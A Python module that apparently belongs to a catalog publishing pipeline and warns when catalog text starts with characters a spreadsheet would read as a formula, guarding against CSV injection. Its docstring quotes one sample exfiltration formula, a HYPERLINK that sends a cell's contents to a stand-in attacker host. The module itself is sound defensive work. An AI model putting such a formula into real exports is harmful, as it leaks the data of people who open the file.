"""Warnings for text a spreadsheet would read as a formula (pipeline step 4, issue 40).

Catalog text lands in the cells of every published CSV (``api/v2/*.csv``, ``embed/*/data.csv``):
a name, note, model or dataset starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is a formula to Excel or LibreOffice (``=HYPERLINK("https://evil.example/?leak="&A2,"x")``).
The CSV writers neutralise such cells as OWASP recommends; ``validate`` warns at the field so the
author knows the cell will not read exactly as typed. A warning never fails validation
or the build.
"""

from __future__ import annotations

from tinkernomics.catalog.entries import Catalog
from tinkernomics.catalog.problems import Problem
from tinkernomics.catalog.walk import nested_models, plain_values

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet reads as the start of a formula (OWASP CSV injection)."""
MESSAGE = ("starts with {char}, which a spreadsheet reads as a formula: the published CSV files "
           "neutralise the cell, so it will not read exactly as typed")
HINT = "start the text with a word or a number, e.g. 'minus 5%' or '5% lower'"


def csv_warnings(catalog: Catalog) -> list[Problem]:
    """One warning per catalog string that starts like a spreadsheet formula, at its field."""
    found = []
    for entry, loc, obj, _, _ in nested_models(catalog):
        for sub, text in plain_values(obj):
            if isinstance(text, str) and text.startswith(FORMULA_STARTS):
                problem = catalog.problem(entry.kind.name, entry.key, (*loc, *sub),
                                          MESSAGE.format(char=repr(text[0])), HINT)
                found.append(Problem(problem.path, problem.line, problem.col, problem.field,
                                     problem.message, problem.hint, severity="warning"))
    return sorted(found)


def print_warnings(catalog: Catalog, annotate: bool) -> None:
    """Print each warning (and its GitHub annotation when ``annotate``) for ``validate``."""
    for warning in csv_warnings(catalog):
        print(warning.format())
        if annotate:
            print(warning.github())
